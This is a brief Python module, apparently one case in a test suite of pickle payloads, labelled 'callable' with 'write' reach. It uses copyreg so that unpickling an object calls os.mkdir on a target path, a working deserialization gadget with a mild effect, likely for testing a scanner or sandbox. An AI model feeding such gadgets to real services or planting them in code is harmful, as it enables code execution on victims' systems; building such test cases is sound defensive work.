"""The same, said with copyreg."""
CATEGORY = "callable"
REACH = "write"

import copyreg
import os

from . import payload


class Own:
    pass


copyreg.pickle(Own, lambda own: (os.mkdir, (payload.TARGET,)))
